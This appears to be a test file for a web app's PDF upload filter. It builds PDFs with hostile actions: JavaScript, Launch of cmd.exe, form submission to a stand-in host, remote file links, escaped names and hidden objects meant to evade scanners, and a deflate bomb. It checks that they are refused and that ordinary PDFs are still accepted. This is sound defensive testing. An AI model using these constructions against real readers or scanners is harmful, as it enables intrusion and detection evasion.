import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { deflateSync } from "node:zlib";
import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from "@cantoo/pdf-lib";
import { afterAll, afterEach, describe, expect, it } from "vitest";
import { COURSE_SYLLABUS_RULE } from "~/web/course-upload.server";
import { ENQUIRY_UPLOAD_RULE } from "~/web/site-forms.server";
import { parseMultipart, type MultipartResult } from "~/infra/uploads.server";
import { pdfActiveContent } from "~/infra/file-checks/pdf-active-content.server";
import { ACTIVE_PDF_MESSAGES } from "~/schemas/uploads";
import { filesOnDisk, uploadRoot } from "../helpers/stored-files";
import { multipartRequest } from "./upload-fixtures";

/**
 * PDFs that run or fetch something when opened: JavaScript, a program launched, another file opened (GoToR,
 * GoToE), a form sent or filled from elsewhere, embedded files, a web address opened without a click. Refused as
 * enquiry attachments and as syllabus files, with a message asking for a plain PDF, whether the objects lie in the
 * open, inside compressed object streams, or behind #xx escapes in their names. Ordinary PDFs (text, clickable web
 * links, an opening view) are still taken. Real files through the real upload parser and upload folder.
 */
const RULES = [COURSE_SYLLABUS_RULE, ENQUIRY_UPLOAD_RULE];

async function upload(field: string, filename: string, data: Buffer): Promise<MultipartResult> {
  return parseMultipart(multipartRequest([{ name: field, filename, data }]), RULES);
}

afterEach(() => fs.rmSync(uploadRoot(), { recursive: true, force: true }));

async function expectRefusedEverywhere(file: Buffer, verdict: "active" | "unreadable" = "active") {
  // Refused for what it holds, not because the parser gave up on it.
  expect(await pdfActiveContent(await tmpFile(file))).toBe(verdict);
  const attachment = await upload("filePaths", "cv.pdf", file);
  expect(attachment.errors.filePaths).toBe(ACTIVE_PDF_MESSAGES.attachment);
  expect(attachment.errorKinds.filePaths).toBe("active");
  expect((await upload("syllabusFile", "syllabus.pdf", file)).errors.syllabusFile).toBe(ACTIVE_PDF_MESSAGES.syllabus);
  expect(filesOnDisk()).toEqual([]);
}

async function expectAcceptedEverywhere(file: Buffer) {
  const attachment = await upload("filePaths", "cv.pdf", file);
  expect(attachment.errors).toEqual({});
  expect(attachment.files).toHaveLength(1);
  const syllabus = await upload("syllabusFile", "syllabus.pdf", file);
  expect(syllabus.errors).toEqual({});
  expect(syllabus.files).toHaveLength(1);
}

/** A real one-page document made with pdf-lib; `edit` adds what a test needs. Object streams: compressed dictionaries. */
async function made(edit: (doc: PDFDocument) => void | Promise<void>, useObjectStreams = true): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  page.drawText("Ravi Kumar - SOC Analyst (L1) - CV", { x: 50, y: 780, size: 14, font: await doc.embedFont(StandardFonts.Helvetica) });
  await edit(doc);
  return Buffer.from(await doc.save({ useObjectStreams }));
}

/** What PDFContext.obj() takes: plain values, names as strings (pdf-lib does not export the type). */
type LiteralObject = Parameters<PDFDocument["context"]["obj"]>[0] & Record<string, unknown>;

/** A link annotation on the first page whose action is `action`. */
function linkWith(doc: PDFDocument, action: LiteralObject, key: "A" | "AA" = "A") {
  const ctx = doc.context;
  const annotation = ctx.obj({ Type: "Annot", Subtype: "Link", Rect: [50, 700, 200, 720], Border: [0, 0, 0], [key]: action } as LiteralObject);
  doc.getPage(0).node.set(PDFName.of("Annots"), ctx.obj([ctx.register(annotation)]));
}

/** A hand-written PDF: the objects as given (the escapes exactly as a hostile file spells them), a trailer, %%EOF. */
function written(objects: string[], root = 1): Buffer {
  let body = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n";
  objects.forEach((o, i) => (body += `${i + 1} 0 obj\n${o}\nendobj\n`));
  return Buffer.from(`${body}trailer\n<< /Root ${root} 0 R /Size ${objects.length + 1} >>\n%%EOF\n`, "latin1");
}

const PAGES = ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"];

/** An object stream holding `objects` (numbered from `first`), Flate-compressed, as writers since PDF 1.5 make them. */
function objectStream(first: number, objects: string[], dictExtra = ""): string {
  let offsets = "";
  let content = "";
  objects.forEach((o, i) => {
    offsets += `${first + i} ${content.length} `;
    content += `${o}\n`;
  });
  const data = deflateSync(Buffer.from(offsets + content, "latin1"));
  return `<< /Type /ObjStm /N ${objects.length} /First ${offsets.length} /Filter /FlateDecode /Length ${data.length}${dictExtra} >>\nstream\n${data.toString("latin1")}\nendstream`;
}

describe("active content, as pdf-lib writes it (dictionaries in compressed object streams)", () => {
  const js = (code: string) => PDFString.of(code);
  const refused: [string, (doc: PDFDocument) => void | Promise<void>][] = [
    [
      "JavaScript run on opening (/OpenAction)",
      (doc) => doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "JavaScript", JS: js("app.alert(1)") })),
    ],
    [
      "a document-level script (/Names /JavaScript)",
      (doc) => {
        const script = doc.context.register(doc.context.obj({ S: "JavaScript", JS: js("this.submitForm('http://203.0.113.9/')") }));
        doc.catalog.set(PDFName.of("Names"), doc.context.obj({ JavaScript: { Names: [PDFHexString.fromText("init"), script] } }));
      },
    ],
    ["a link that launches a program (/Launch)", (doc) => linkWith(doc, { S: "Launch", F: js("C:\\Windows\\System32\\cmd.exe") })],
    ["a link to a page of another file (/GoToR)", (doc) => linkWith(doc, { S: "GoToR", F: js("\\\\203.0.113.9\\share\\x.pdf"), D: [0, "Fit"] })],
    ["a link into an embedded file (/GoToE)", (doc) => linkWith(doc, { S: "GoToE", T: { R: "C", N: js("payload.pdf") } })],
    ["a button that sends the form away (/SubmitForm)", (doc) => linkWith(doc, { S: "SubmitForm", F: { FS: "URL", F: js("http://203.0.113.9/collect") } })],
    ["a button that loads form data from a file (/ImportData)", (doc) => linkWith(doc, { S: "ImportData", F: js("\\\\203.0.113.9\\s\\d.fdf") })],
    [
      "a web address opened on opening (/OpenAction /URI)",
      (doc) => doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "URI", URI: js("http://203.0.113.9/opened") })),
    ],
    [
      "a web address opened when the page opens (page /AA /O /URI)",
      (doc) => doc.getPage(0).node.set(PDFName.of("AA"), doc.context.obj({ O: { S: "URI", URI: js("http://203.0.113.9/page") } })),
    ],
    [
      "a web address opened when the document closes (catalog /AA /WC)",
      (doc) =>
        doc.catalog.set(PDFName.of("AA"), doc.context.obj({ WC: doc.context.register(doc.context.obj({ S: "URI", URI: js("http://203.0.113.9/bye") })) })),
    ],
    [
      "a web address opened by the mouse passing over a link (annotation /AA /E)",
      (doc) => linkWith(doc, { E: { S: "URI", URI: js("http://203.0.113.9/hover") } }, "AA"),
    ],
    [
      "a /URI reached along /Next from an opening jump",
      (doc) => {
        const next = doc.context.register(doc.context.obj({ S: "URI", URI: js("http://203.0.113.9/next") }));
        doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj({ S: "GoTo", D: [doc.getPage(0).ref, "Fit"], Next: [next] }));
      },
    ],
    ["an embedded file (doc.attach: /EmbeddedFiles)", (doc) => doc.attach(Buffer.from("MZ fake exe"), "invoice.exe", { mimeType: "application/octet-stream" })],
  ];
  for (const [label, edit] of refused) {
    it(`refuses ${label}, in object streams and without them`, async () => {
      await expectRefusedEverywhere(await made(edit, true));
      await expectRefusedEverywhere(await made(edit, false));
    });
  }
});

describe("active content hidden from a plain text search", () => {
  const refused: [string, () => Buffer][] = [
    [
      "/J#61vaScript as the key of an opening action",
      () => written([`<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /J#61vaScript (app.alert(1)) >> >>`, ...PAGES]),
    ],
    [
      "/#4aavaScript in lower-case hex as the action type",
      () => written([`<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>`, ...PAGES, "<< /S /#4aavaScript /#4aS (x) >>"]),
    ],
    [
      "/L#61unch as a link's action",
      () =>
        written([
          `<< /Type /Catalog /Pages 2 0 R >>`,
          PAGES[0],
          "<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>",
          "<< /Subtype /Link /A << /S /L#61unch /F (calc.exe) >> >>",
        ]),
    ],
    [
      "/#47oToR with an escaped key",
      () => written([`<< /Type /Catalog /Pages 2 0 R /#4fpenAction << /#53 /#47oToR /F (//203.0.113.9/s/x.pdf) /D [0 /Fit] >> >>`, ...PAGES]),
    ],
    [
      "a URI action behind an escaped /#4fpenAction and /#55RI",
      () => written([`<< /Type /Catalog /Pages 2 0 R /#4fpenAction << /S /#55RI /URI (http://203.0.113.9/) >> >>`, ...PAGES]),
    ],
    [
      "a URI in a page's additional actions along an escaped /#4eext",
      () =>
        written([
          `<< /Type /Catalog /Pages 2 0 R >>`,
          PAGES[0],
          "<< /Type /Page /Parent 2 0 R /AA << /O << /S /GoTo /D [3 0 R /Fit] /#4eext 4 0 R >> >> >>",
          "<< /S /URI /URI (http://203.0.113.9/) >>",
        ]),
    ],
    [
      "/Emb#65ddedFiles in the name dictionary",
      () => written([`<< /Type /Catalog /Pages 2 0 R /Names << /Emb#65ddedFiles << /Names [(a) 4 0 R] >> >> >>`, ...PAGES, "<< /Type /Filespec /F (a.exe) >>"]),
    ],
    [
      "an opening script inside a compressed object stream, the action's name escaped",
      () =>
        written([
          `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>`,
          ...PAGES,
          objectStream(5, ["<< /S /J#61vaScript /JS (app.launchURL('http://203.0.113.9/')) >>"]),
        ]),
    ],
    [
      "a Launch action inside an object stream whose own /Type is escaped in lower-case hex",
      () =>
        written([
          `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>`,
          ...PAGES,
          objectStream(5, ["<< /S /Launch /F (cmd.exe) >>"]).replace("/Type /ObjStm", "/Type /Obj#53t#6d"),
        ]),
    ],
    [
      "an object defined twice, the harmful version first (where a crafted cross-reference table points)",
      () =>
        Buffer.from(
          written([`<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>`, ...PAGES, "<< /S /JavaScript /JS (app.alert(1)) >>"])
            .toString("latin1")
            .replace("trailer", "4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\ntrailer"),
          "latin1",
        ),
    ],
    [
      "a file attachment annotation",
      () =>
        written([
          `<< /Type /Catalog /Pages 2 0 R >>`,
          PAGES[0],
          "<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /FileAttachment /FS << /Type /Filespec /F (x.exe) >> >>] >>",
        ]),
    ],
    [
      "an XFA form (scripted XML)",
      () => written([`<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>`, ...PAGES, "<< /Length 0 >>\nstream\n\nendstream"]),
    ],
  ];
  for (const [label, make] of refused) {
    it(`refuses ${label}`, async () => {
      // @cantoo/pdf-lib reads #xx escapes in either case, so it opens even the object stream whose /Type is escaped
      // in lower-case hex and the Launch inside is seen (pdf-lib 1.17 did not open it; the walk refused the unseen).
      await expectRefusedEverywhere(make());
    });
  }

  it("refuses an object stream that would inflate past the limit (a deflate bomb), without inflating it all", async () => {
    const bomb = deflateSync(Buffer.alloc(200 * 1024 * 1024, 0x20), { level: 9 });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const file = Buffer.concat([
      Buffer.from(
        `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`,
        "latin1",
      ),
      bomb,
      Buffer.from("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n", "latin1"),
    ]);
    const before = process.memoryUsage().arrayBuffers;
    await expectRefusedEverywhere(file, "unreadable");
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(100 * 1024 * 1024);
  });
});

/**
 * A hand-written PDF with a real cross-reference table, as qpdf and readers read it: `hiddenAt` puts an object's
 * entry at the first place the given text is found, wherever that is (inside a stream's data, a comment).
 */
function withXref(objects: [number, string][], hiddenAt: Record<number, string> = {}): Buffer {
  let body = "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n";
  const offsets = new Map<number, number>();
  for (const [num, text] of objects) {
    offsets.set(num, body.length);
    body += `${num} 0 obj\n${text}\nendobj\n`;
  }
  for (const [num, marker] of Object.entries(hiddenAt)) offsets.set(Number(num), body.indexOf(marker));
  const size = Math.max(...offsets.keys()) + 1;
  let xref = `xref\n0 ${size}\n0000000000 65535 f \n`;
  for (let i = 1; i < size; i++) xref += `${String(offsets.get(i) ?? 0).padStart(10, "0")} 00000 ${offsets.has(i) ? "n" : "f"} \n`;
  return Buffer.from(`${body}${xref}trailer\n<< /Root 1 0 R /Size ${size} >>\nstartxref\n${body.length}\n%%EOF\n`, "latin1");
}

describe("objects a reader finds where a parser reading the file in order does not", () => {
  // qpdf --show-object=5 prints the action for both files (it follows the table, as every reader does), and
  // qpdf --check finds no error in either; pdf-lib, reading in order, never saw object 5.
  const opening = "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>";
  const pages: [number, string][] = [
    [2, PAGES[0]],
    [3, PAGES[1]],
  ];

  it("refuses an opening script whose object is written inside another object's stream data", async () => {
    const hidden = "5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n";
    const file = withXref([[1, opening], ...pages, [4, `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`]], { 5: "5 0 obj" });
    await expectRefusedEverywhere(file, "unreadable");
  });

  it("refuses a launch action whose object is written inside a comment", async () => {
    const file = withXref([[1, opening], ...pages, [4, "<< /Note 1 >>\n% 5 0 obj << /S /Launch /F (calc.exe) >> endobj"]], { 5: "5 0 obj" });
    await expectRefusedEverywhere(file, "unreadable");
  });

  it("still takes the same files with the object where it belongs, and text that shows an object's syntax", async () => {
    await expectAcceptedEverywhere(withXref([[1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"], ...pages, [5, "[3 0 R /Fit]"]]));
    await expectAcceptedEverywhere(
      await made((doc) => {
        doc.getPage(0).drawText("Lab 4: 5 0 obj << /S /JavaScript >> endobj, and why readers run it", { x: 50, y: 700, size: 10 });
      }),
    );
  });
});

describe("ordinary PDFs are still taken", () => {
  it("takes a CV with text, a clickable web link, a mail link and an opening view, with and without object streams", async () => {
    const edit = (doc: PDFDocument) => {
      linkWith(doc, { S: "URI", URI: PDFString.of("https://www.linkedin.com/in/ravi-kumar") });
      doc.catalog.set(PDFName.of("OpenAction"), doc.context.obj([doc.getPage(0).ref, "FitH", 842]));
      doc.setTitle("Ravi Kumar CV");
      doc.setAuthor("Ravi Kumar");
    };
    await expectAcceptedEverywhere(await made(edit, true));
    await expectAcceptedEverywhere(await made(edit, false));
  });

  it("takes the small PDFs the other tests use", async () => {
    for (const file of [
      "%PDF-1.4\n%%EOF\n",
      "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
      "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
    ]) {
      expect(await pdfActiveContent(await tmpFile(Buffer.from(file)))).toBe("plain");
    }
  });

  it("takes a document that only talks about /JavaScript and /Launch in its text", async () => {
    const file = await made(async (doc) => {
      doc.getPage(0).drawText("Week 6: PDF malware - /OpenAction, /JavaScript, /Launch, /EmbeddedFiles", { x: 50, y: 700, size: 10 });
    });
    await expectAcceptedEverywhere(file);
  });
});

const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "soc-pdf-"));
afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));
let tmpCount = 0;
async function tmpFile(data: Buffer): Promise<string> {
  const file = path.join(scratch, `${++tmpCount}.pdf`);
  fs.writeFileSync(file, data);
  return file;
}
